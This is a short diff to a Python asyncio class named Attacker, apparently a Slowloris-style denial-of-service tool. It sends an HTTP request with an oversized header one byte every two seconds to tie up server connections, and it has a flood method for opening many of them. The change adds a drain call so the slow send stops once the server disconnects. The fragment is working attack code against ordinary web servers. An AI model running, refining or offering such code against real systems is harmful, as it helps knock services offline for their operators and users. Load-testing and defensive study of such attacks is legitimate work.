@@ -75,6 +75,7 @@ class Attacker:
         _, writer = await self.connect()
         for letter in "GET / HTTP/1.1\r\nX-Slow: " + "x" * 1000:
             writer.write(letter.encode())
+            await writer.drain()  # ends the attack where the server has hung up
             await asyncio.sleep(2)
 
     async def flood(self, number: int) -> None:
